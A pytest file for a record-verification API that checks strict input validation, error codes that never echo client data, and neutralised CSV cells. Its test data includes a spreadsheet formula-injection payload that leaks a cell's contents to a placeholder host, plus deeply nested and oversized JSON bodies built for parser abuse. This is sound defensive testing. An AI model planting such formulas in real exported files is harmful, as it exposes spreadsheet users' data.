"""One code per cause, whatever the route: a body that is not JSON is 400 invalid_json, a wrong
content type 415, integers are JSON integers (never booleans or strings), the role is checked
before anything else, no message quotes what the client sent, and no CSV cell can start a
formula."""

import csv
import io
import json

import httpx
import pytest

from tests.helpers.inprocess import Caller
from tests.helpers.inprocess import db_snapshot
from tests.helpers.inprocess import new_dataset
from tests.helpers.inprocess import new_org

NOT_JSON = [
    b'{"purpose": "p", "records": [{"email": "\xff\xfe@example.fr"}]}',  # not UTF-8
    b'{"purpose": "p", "records": [' + b"[" * 100_000 + b"]" * 100_000 + b"]}",  # too deep
    b'{"purpose": "p", "records": [{"key_version": ' + b"9" * 5000 + b"}]}",  # past any parser
    b'{"purpose": "p", "records": [{"email": "a@b.fr"}]',  # cut short
    b"purpose=p",
]


@pytest.mark.parametrize("body", NOT_JSON, ids=["utf8", "nesting", "digits", "truncated", "form"])
async def test_a_body_that_is_not_json_is_400_everywhere(
    app: object, client: httpx.AsyncClient, buyer: Caller, holder: Caller, body: bytes
) -> None:
    dataset = await new_dataset(client, holder)
    for path, caller in (("/v1/verify", buyer), (f"/v1/datasets/{dataset}/records", holder)):
        answer = await client.post(
            path, content=body, headers={**caller.headers, "Content-Type": "application/json"}
        )
        assert answer.status_code == 400, (path, answer.text)
        assert answer.json()["error"]["code"] == "invalid_json"


async def test_a_large_number_is_an_invalid_field_and_is_not_quoted(
    client: httpx.AsyncClient, buyer: Caller
) -> None:
    digits = b"9" * 400
    answer = await client.post(
        "/v1/verify/signed",
        content=b'{"purpose": "p", "records": [{"key_version": '
        + digits
        + b', "signatures": {}}]}',
        headers={**buyer.headers, "Content-Type": "application/json"},
    )
    assert answer.status_code == 422, answer.text
    assert answer.json()["error"]["details"][0]["field"] == "key_version"
    assert "9999" not in answer.text


async def test_a_wrong_content_type_is_415(client: httpx.AsyncClient, buyer: Caller) -> None:
    body = json.dumps({"purpose": "p", "records": [{"email": "a@example.fr"}]})
    for media_type in ("text/plain", "application/x-www-form-urlencoded", "text/csv"):
        answer = await client.post(
            "/v1/verify", content=body, headers={**buyer.headers, "Content-Type": media_type}
        )
        assert answer.status_code == 415, media_type
        assert answer.json()["error"]["code"] == "unsupported_media_type"


async def test_integers_are_json_integers(
    app: object, client: httpx.AsyncClient, buyer: Caller, holder: Caller, admin: Caller
) -> None:
    dataset = await new_dataset(client, holder)
    record = {"external_id": "a", "updated_at": "2026-01-01", "signatures": {"email": "0" * 32}}
    for version in (True, "1", 1.5):
        signed = await client.post(
            "/v1/verify/signed",
            json={"purpose": "p", "records": [{"key_version": version, "signatures": {}}]},
            headers=buyer.headers,
        )
        assert signed.status_code == 422, version
        as_json = await client.post(
            f"/v1/datasets/{dataset}/records",
            json={"records": [{**record, "key_version": version}]},
            headers=holder.headers,
        )
        assert as_json.status_code == 422, version
        line = json.dumps({**record, "key_version": version}).encode()
        as_ndjson = await client.post(
            f"/v1/datasets/{dataset}/records",
            content=line,
            headers={**holder.headers, "Content-Type": "application/x-ndjson"},
        )
        assert as_ndjson.status_code == 422, version
    for retention in (True, "30"):
        created = await client.post(
            "/v1/datasets",
            json={"name": "n", "legal_basis": "contract", "retention_days": retention},
            headers=holder.headers,
        )
        assert created.status_code == 422
    org = await client.post(
        "/v1/admin/orgs", json={"name": "q", "role": "buyer"}, headers=admin.headers
    )
    quota = await client.put(
        f"/v1/admin/orgs/{org.json()['id']}/quota",
        json={"monthly_records": True},
        headers=admin.headers,
    )
    assert quota.status_code == 422


async def test_dates_in_queries_are_written_yyyy_mm_dd(
    client: httpx.AsyncClient, buyer: Caller
) -> None:
    for value in ("0", "1700000000", "2026-1-1", "2026-12-01T00:00:00"):
        answer = await client.get(f"/v1/usage/me?to={value}", headers=buyer.headers)
        assert answer.status_code == 422, value
    assert (await client.get("/v1/usage/me?to=2026-12-01", headers=buyer.headers)).is_success


async def test_the_role_is_checked_before_the_idempotency_key(
    app: object, client: httpx.AsyncClient, holder: Caller
) -> None:
    """A holder that used a key on its own route, then (wrongly) on /v1/verify: 403, not 422."""
    created = await client.post(
        "/v1/datasets",
        json={"name": "with a key", "legal_basis": "contract"},
        headers={**holder.headers, "Idempotency-Key": "k-1"},
    )
    assert created.status_code == 201
    body = {"purpose": "p", "records": [{"email": "a@example.fr"}]}
    for key in ("k-1", "k-2"):
        wrong = await client.post(
            "/v1/verify", json=body, headers={**holder.headers, "Idempotency-Key": key}
        )
        assert wrong.status_code == 403, wrong.text


async def test_no_message_quotes_the_client(
    client: httpx.AsyncClient, holder: Caller, admin: Caller
) -> None:
    name = "Fichier clients jean.dupont@example.fr"
    created = await client.post(
        "/v1/datasets", json={"name": name, "legal_basis": "contract"}, headers=holder.headers
    )
    assert created.status_code == 201
    again = await client.post(
        "/v1/datasets", json={"name": name, "legal_basis": "contract"}, headers=holder.headers
    )
    assert again.status_code == 409
    assert "jean.dupont" not in again.text
    org = {"name": "Org jean.dupont@example.fr", "role": "buyer"}
    assert (await client.post("/v1/admin/orgs", json=org, headers=admin.headers)).is_success
    twice = await client.post("/v1/admin/orgs", json=org, headers=admin.headers)
    assert twice.status_code == 409
    assert "jean.dupont" not in twice.text


async def test_usage_csv_cells_never_start_a_formula(
    app: object, client: httpx.AsyncClient, admin: Caller
) -> None:
    names = ['=HYPERLINK("http://x/?"&A1,"y")', "+33 buyer", "-minus", "@at", "\tTab"]
    for name in names:
        buyer = await new_org(client, admin, "buyer", name.replace("\t", "T") + "x")
        buyer_named = await client.post(
            "/v1/admin/orgs", json={"name": name, "role": "buyer"}, headers=admin.headers
        )
        if name.startswith("\t"):
            assert buyer_named.status_code == 422  # stored text has no control character
            continue
        assert buyer_named.status_code == 201, buyer_named.text
        key = await client.post(
            f"/v1/admin/orgs/{buyer_named.json()['id']}/keys", json={}, headers=admin.headers
        )
        verified = await client.post(
            "/v1/verify",
            json={"purpose": "p", "records": [{"email": "a@example.fr"}]},
            headers={"Authorization": f"Bearer {key.json()['key']}"},
        )
        assert verified.status_code == 200
        del buyer
    answer = await client.get("/v1/usage?group_by=buyer&format=csv", headers=admin.headers)
    assert answer.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(answer.text)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert '\'=HYPERLINK("http://x/?"&A1,"y")' in cells


async def test_a_verify_list_over_its_maximum_is_refused_and_nothing_billed(
    app: object, client: httpx.AsyncClient, buyer: Caller
) -> None:
    from fastapi import FastAPI

    assert isinstance(app, FastAPI)
    before = await db_snapshot(app)
    answer = await client.post(
        "/v1/verify",
        json={"purpose": "p", "records": [{}] * 1001},
        headers=buyer.headers,
    )
    assert answer.status_code == 422
    assert await db_snapshot(app) == before
    schema = (await client.get("/openapi.json")).json()["components"]["schemas"]
    for name in ("VerifyRequest", "SignedVerifyRequest"):
        assert schema[name]["properties"]["records"]["maxItems"] == 1000
    assert schema["DeleteRecords"]["properties"]["external_ids"]["maxItems"] == 100_000
    assert schema["SignedOptOuts"]["properties"]["records"]["maxItems"] == 10_000
